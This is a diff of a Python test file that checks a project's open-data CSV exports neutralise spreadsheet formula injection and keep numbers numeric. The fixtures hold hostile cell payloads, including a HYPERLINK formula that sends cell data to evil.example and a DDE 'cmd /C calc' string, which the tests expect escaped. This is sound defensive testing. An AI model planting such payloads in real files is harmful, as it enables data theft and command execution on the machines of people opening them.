@@ -1,4 +1,4 @@
-"""The evaluations CSV: formula-looking text from content is neutralised (OWASP CSV
+"""The open data's CSV files: formula-looking text from content is neutralised (OWASP CSV
 Injection), computed numbers are not, and the file opens in Excel (UTF-8 BOM).
 
 The rankings are built with the real model and scoring functions; the CSV is read back
@@ -13,7 +13,8 @@ from decimal import Decimal
 
 import pytest
 
-from showcase.exports import COLUMNS, evaluations_csv, safe_cell
+from showcase.areas import area_figures
+from showcase.exports import safe_cell
 from showcase.model import (
     Band,
     Community,
@@ -26,8 +27,10 @@ from showcase.model import (
     Special,
     Veto,
 )
+from showcase.opendata import EVALUATIONS, INTEGER, NUMBER, TABLES, OpenData, table_csv
 from showcase.scoreviews import ranking_views
-from showcase.scoring import build_rankings
+from showcase.scoring import build_rankings, community_scores
+from showcase.views import directory
 
 D = Decimal
 BOM = "\ufeff".encode()
@@ -139,7 +142,7 @@ def read_csv(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
-def test_evaluations_csv_neutralises_content_and_keeps_numbers():
+def hostile_data() -> OpenData:
     framework = make_framework()
     communities = [
         # a: 100 × 1.0 = 100 → ＝优秀, rank 1
@@ -155,48 +158,39 @@ def test_evaluations_csv_neutralises_content_and_keeps_numbers():
         make_community("gamma", "＝1+1", "正常街道", "正常区", "a", vetoes=("v",)),
     ]
     site = Site(communities={c.slug: c for c in communities}, frameworks={framework.id: framework})
-    rows = read_csv(evaluations_csv(ranking_views(build_rankings(site))))
-    assert rows[0] == COLUMNS
-    assert rows[1:] == [
-        [
-            "2026",
-            "'=fw",
-            '\'=HYPERLINK("http://evil.example/?"&A1,"点我")',
-            "alpha",
-            "'+86 街道",
-            "'-区",
-            "100.0",
-            "0",
-            "100.0",
-            "100.0",
-            "'＝优秀",
-            "1",
-            "",
-        ],
-        [
-            "2026",
-            "'=fw",
-            "'@SUM(1+1)*cmd|' /C calc'!A0",
-            "beta",
-            "'\t=1+1",
-            "'\r=1+1",
-            "50.0",
-            "5",
-            "55.0",
-            "55.0",
-            "'-不合格",
-            "2",
-            "",
-        ],
-        ["2026", "'=fw", "城关社区", "epsilon", "城关街道", "临川区", "50.0", "0", "50.0", "50.0", "'-不合格", "3", ""],
-        ["2026", "'=fw", "'＠SUM(A1)", "delta", "'＋1", "'－1", "0", "-5", "-5", "-5.0", "'@扣分", "4", ""],
-        ["2026", "'=fw", "'＝1+1", "gamma", "正常街道", "正常区", "100.0", "0", "100.0", "100.0", "", "", "'@一票否决"],
+    today = dt.date(2026, 11, 23)
+    scores = {c.slug: community_scores(c, site) for c in communities}
+    rankings = ranking_views(build_rankings(site, scores))
+    areas = area_figures(directory(site), [v.ranking for v in rankings], [], today)
+    return OpenData(site, scores, rankings, [], [], areas, today, lambda uri: uri.removesuffix("index.md"))
+
+
+def test_evaluations_csv_neutralises_content_and_keeps_numbers():
+    data = hostile_data()
+    rows = read_csv(table_csv(EVALUATIONS, data.rows(EVALUATIONS)))
+    assert rows[0] == EVALUATIONS.names
+    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
+    pick = ("community_name", "district", "street", "framework", "basic", "special", "total", "total_display", "band", "rank", "vetoes")
+    assert [by_id[f"{slug}-2026"][k] for slug in ("alpha", "beta", "delta", "gamma") for k in pick] == [
+        *('\'=HYPERLINK("http://evil.example/?"&A1,"点我")', "'-区", "'+86 街道", "'=fw", "100", "0", "100", "100.0", "'＝优秀", "1", "[]"),
+        *("'@SUM(1+1)*cmd|' /C calc'!A0", "'\r=1+1", "'\t=1+1", "'=fw", "50", "5", "55", "55.0", "'-不合格", "2", "[]"),
+        *("'＠SUM(A1)", "'－1", "'＋1", "'=fw", "0", "-5", "-5", "-5.0", "'@扣分", "4", "[]"),
+        *("'＝1+1", "正常区", "正常街道", "'=fw", "100", "0", "100", "100.0", "", "", '["@一票否决"]'),
     ]
-    # Numbers read back as numbers; no text cell from content starts a formula.
+
+
+@pytest.mark.parametrize("table", TABLES, ids=lambda t: t.name)
+def test_no_csv_cell_from_content_starts_a_formula(table):
+    """Every table of the open data, over content whose names, streets, districts,
+    framework id and labels all look like formulas: text cells are neutralised, numbers
+    read back as numbers."""
+    data = hostile_data()
+    rows = read_csv(table_csv(table, data.rows(table)))
+    assert rows[0] == table.names
+    numeric = {c.name for c in table.columns if c.kind in (NUMBER, INTEGER) or c.shown}
     for row in rows[1:]:
-        year, basic, special, exact, shown, rank = row[0], row[6], row[7], row[8], row[9], row[11]
-        assert int(year) == 2026
-        assert all(Decimal(v) == Decimal(v) for v in (basic, special, exact, shown))
-        assert rank == "" or int(rank) > 0
-        for cell in (row[1], row[2], row[3], row[4], row[5], row[10], row[12]):
-            assert cell[:1] not in set("=+-@\t\r＝＋－＠"), cell
+        for name, cell in zip(rows[0], row, strict=True):
+            if name in numeric and cell:
+                Decimal(cell)  # a number, not text
+            else:
+                assert cell[:1] not in set("=+-@\t\r＝＋－＠"), (table.name, name, cell)
